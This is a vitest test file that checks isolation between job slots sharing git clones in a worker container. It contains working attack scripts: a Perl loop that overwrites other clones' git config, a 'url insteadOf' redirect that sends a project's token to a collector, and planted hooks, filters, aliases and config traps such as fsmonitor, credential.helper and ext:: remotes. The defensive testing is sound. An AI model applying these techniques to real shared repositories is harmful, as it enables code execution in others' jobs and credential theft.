import { access, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { ServiceAccount } from '../../../worker-container/service-accounts/service-account.ts';
import { type GitServer, startGitServer } from '../../stand-ins/git-server.ts';
import { describeAsRoot, newAccounts } from './as-root.ts';
import { attackAs, openSlots, printedAs, type SlotsOfARepository, startCollector } from './slots-of-a-repository.ts';

const TOKEN = 's3cret-token-of-the-project';
/** The clones that a job of another slot tries to steer. */
const CLONES = 'ls -d $W/.repositories/*/*.git $W/.repositories/*.git 2> /dev/null';
/**
 * Replaces their configuration and attributes by those in its environment, some 400 times a second. It pauses in
 * between, because an attack that takes a core slows what it attacks.
 */
const ATTACK = `
for (;;) {
  for my $git (glob ".repositories/*/*.git .repositories/*.git") {
    mkdir "$git/info";
    for (["config", $ENV{CONFIG}], ["info/attributes", $ENV{ATTRIBUTES}]) {
      my ($name, $text) = @$_;
      open my $file, ">", "$git/$name.x" or next;
      print $file $text;
      close $file;
      rename "$git/$name.x", "$git/$name";
    }
  }
  select undef, undef, undef, 0.002;
}`;

describeAsRoot('jobs of one repository', () => {
  const [first, second] = newAccounts(2).slots as [ServiceAccount, ServiceAccount];
  let slots: SlotsOfARepository;
  let repository: GitServer;
  let guarded: GitServer;
  const secrets = new Map<string, string>();
  beforeAll(async () => {
    [slots, repository, guarded] = await Promise.all([
      openSlots(secrets),
      startGitServer(),
      startGitServer({ credentials: `bot:${TOKEN}` }),
    ]);
    secrets.set('GUARDED', guarded.url.replace('//', `//bot:${TOKEN}@`));
    await repository.commit({ 'README.md': 'one\n' });
    await guarded.commit({ 'README.md': 'one\n' });
  });
  afterAll(async () => await Promise.all([slots.stop(), repository.close(), guarded.close()]));

  const isThere = async (path: string) =>
    await access(path).then(
      () => true,
      () => false,
    );
  /** Names the clones and the workspaces to a script. */
  const inClones = (script: string) => `W=${slots.workspaces}; cd $W; ${script}`;
  const attackOn = ({ config, attributes }: { readonly config: string; readonly attributes: string }) =>
    inClones(`export ATTRIBUTES='${attributes}' CONFIG='[core]
\trepositoryformatversion = 0
\tbare = true
${config}'; exec perl -e '${ATTACK}'`);

  test('continue in one clone, and a retry in a worktree that another slot has created', async () => {
    await slots.setProject('app', { repository: repository.url, setup: 'id -u > set-up-by' });
    const uidIn = async (job: Parameters<typeof slots.folderOf>[0], name: string) =>
      Number(await readFile(join(slots.folderOf(job), name), 'utf8'));
    const failed = await slots.runNew(
      'id -u > uid; echo 1 >> README.md; git commit -qam one && git gc -q && exit 3',
      first,
    );
    expect([failed.status, failed.exit_code, failed.attempt_warnings]).toEqual(['FAILED', 3, undefined]);
    expect(await uidIn(failed, 'uid')).toBe(first.uid);
    const next = await slots.runNew('id -u > uid; echo 2 >> README.md; git commit -qam two', second);
    expect([next.status, next.attempt_warnings, await uidIn(next, 'uid')]).toEqual([
      'SUCCEEDED',
      undefined,
      second.uid,
    ]);
    const retried = await slots.retry(failed, second);
    expect([retried.status, retried.exit_code, retried.attempt_warnings]).toEqual(['FAILED', 3, undefined]);
    expect([await uidIn(failed, 'uid'), await uidIn(failed, 'set-up-by')]).toEqual([second.uid, first.uid]);
    expect(await readFile(join(slots.folderOf(failed), 'README.md'), 'utf8')).toBe('one\n1\n1\n');
    expect(retried.changes).toMatchObject({ branch: `promptq/${failed.id}`, files: 2, insertions: 3 });
  });

  test("send a project's credential to its own host only, whatever other slots do meanwhile", async () => {
    const collector = await startCollector();
    await slots.setProject('guarded', { repository: guarded.url, secret: 'GUARDED' });
    expect(await slots.runNew('true', second, 'guarded')).toMatchObject({ status: 'SUCCEEDED' });
    const host = new URL(guarded.url).origin;
    const attack = await attackAs(
      first,
      attackOn({ config: `[url "${collector.url}"]\n\tinsteadOf = ${host}/\n`, attributes: '' }),
    );
    const outcomes: string[] = [];
    try {
      for (let fetches = 0; fetches < 3; fetches += 1)
        outcomes.push((await slots.runNew('cat README.md', second, 'guarded')).status);
    } finally {
      await attack.end();
      collector.close();
    }
    expect(collector.given).toEqual([]);
    expect(new Set(outcomes)).toEqual(new Set(['SUCCEEDED']));
    expect(new Set(guarded.callers).size).toBe(1);
  });

  test("can write nothing that steers another's git", async () => {
    await slots.setProject('closed', { repository: repository.url });
    const theirs = await slots.runNew('git tag mine; true', second, 'closed');
    const reached = inClones(`find .repositories closed/${theirs.id} -writable 2> /dev/null; echo looked`);
    expect(await printedAs(first, reached)).toBe('looked\n');
  });

  test('run no hook that an earlier job has planted, nor what its attributes name', async () => {
    await slots.setProject('hooks', { repository: repository.url });
    const mark = join(slots.open, 'hooked');
    const planted = await slots.runNew(
      inClones(`cd -; for d in $(git rev-parse --git-common-dir) $(${CLONES}); do (
          mkdir -p $d/hooks $d/info; printf '#!/bin/sh\\nid -u >> ${mark}\\n' > $d/hooks/post-commit
          for h in pre-commit reference-transaction post-checkout; do cp $d/hooks/post-commit $d/hooks/$h; done
          chmod +x $d/hooks/*; echo '* filter=x' > $d/info/attributes
          git --git-dir $d config filter.x.clean 'id -u >> ${mark}; cat'
          git --git-dir $d config alias.status '!id -u >> ${mark}'
        ) 2> /dev/null; done; rm -f ${mark}; true`),
      first,
      'hooks',
    );
    expect(planted.status).toBe('SUCCEEDED');
    const next = await slots.runNew(
      'echo 2 > README.md; git commit -qam two; git status -s; git checkout -qb x',
      second,
      'hooks',
    );
    expect([next.status, next.changes?.files, await isThere(mark)]).toEqual(['SUCCEEDED', 1, false]);
  });

  test("run nothing of another slot in the worker's own calls", async () => {
    await slots.setProject('ending', { repository: repository.url });
    await slots.runNew('true', second, 'ending');
    const mark = join(slots.open, 'filtered');
    const attack = await attackAs(
      first,
      attackOn({ config: `[filter "x"]\n\tclean = id -u >> ${mark}\n`, attributes: '* filter=x\n' }),
    );
    try {
      for (let jobs = 0; jobs < 3; jobs += 1) await slots.runNew('echo 2 > README.md', second, 'ending');
    } finally {
      await attack.end();
    }
    expect(await isThere(mark)).toBe(false);
    expect(await slots.runNew('echo 2 > README.md', second, 'ending')).toMatchObject({ changes: { files: 1 } });
  });

  test("see the server's branches and tags, and their own, whatever another did to its", async () => {
    await slots.setProject('refs', { repository: repository.url });
    const commit = await repository.commit({ 'README.md': 'one\nmore\n' });
    await slots.runNew(
      inClones(`cd -; git commit -q --allow-empty -m mine
        for d in $(git rev-parse --git-common-dir) $(${CLONES}); do (
          git --git-dir $d update-ref refs/remotes/origin/main HEAD
          git --git-dir $d update-ref refs/heads/main HEAD; git --git-dir $d update-ref refs/promptq/HEAD HEAD
          git --git-dir $d tag planted HEAD; rm -rf $d/objects/*; echo /nowhere > $d/objects/info/alternates
        ) > /dev/null 2>&1; done; true`),
      first,
      'refs',
    );
    const seen = await slots.runNew(
      `git rev-parse HEAD origin/main > refs; git tag >> refs; git branch >> refs; cat refs; git fsck 2>&1; git log -1 --format=%s >> refs`,
      second,
      'refs',
    );
    expect(await readFile(join(slots.folderOf(seen), 'refs'), 'utf8')).toBe(
      `${commit}\n${commit}\n* promptq/${seen.id}\nchange\n`,
    );
  });

  const TRAPS = `
    cp README.md before; trap="touch ${'$'}SPRUNG"
    c() { git config "$@"; }
    c core.fsmonitor "$trap"; c core.sshCommand "$trap"; c core.pager "$trap"; c core.editor "$trap"; c core.hooksPath $PWD/.hooks
    c diff.external "$trap"; c diff.d.textconv "$trap"; c diff.d.command "$trap"; c filter.f.clean "$trap"; c filter.f.smudge "$trap"
    c filter.lfs.process "$trap"; c filter.lfs.clean "$trap"; c filter.lfs.required true
    c remote.p.url "ext::$trap"; c remote.p.promisor true; c extensions.partialClone p; c core.repositoryFormatVersion 1
    c protocol.ext.allow always; c credential.helper "!$trap"; c alias.diff "!$trap"; c alias.rev-parse "!$trap"
    printf '[core]\\n\\tfsmonitor = %s\\n' "$trap" > .included; c include.path $PWD/.included
    mkdir .hooks; for h in post-index-change reference-transaction pre-commit post-checkout; do printf '#!/bin/sh\\n%s\\n' "$trap" > .hooks/$h; chmod +x .hooks/$h; done
    mkdir -p .git/hooks .git/info; cp .hooks/* .git/hooks/; echo '* filter=f diff=d' > .git/info/attributes
    printf '* filter=lfs diff=d\\n' > .gitattributes
    git init -q sub; (cd sub; PATH=/usr/bin:/bin; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m s; echo x > x; git add x
      git config filter.f.clean "$trap"; git config core.fsmonitor "$trap"; echo '* filter=f' > .git/info/attributes; echo y > x)
    printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = ./sub\\n\\tupdate = !%s\\n' "$trap" > .gitmodules; c submodule.sub.update "!$trap"
    echo changed > README.md; rm -rf \${SPRUNG}*; true`;

  test('that plant all they can in their own repository run none of it after their end', async () => {
    await slots.setProject('traps', { repository: repository.url });
    const sprung = join(slots.open, 'sprung');
    const job = await slots.runNew(`SPRUNG=${sprung}; ${TRAPS}`, first, 'traps');
    expect([job.status, job.attempt_warnings]).toEqual(['SUCCEEDED', undefined]);
    expect(job.changes).toMatchObject({ branch: `promptq/${job.id}`, base: job.changes?.head });
    expect(job.changes?.stat).toContain('README.md');
    expect(await isThere(sprung)).toBe(false);
    // Later attempts begin by it, and other jobs too.
    expect(await slots.runNew('true', second, 'traps')).toMatchObject({ status: 'SUCCEEDED', changes: { files: 0 } });
    expect(await isThere(sprung)).toBe(false);
  });
});
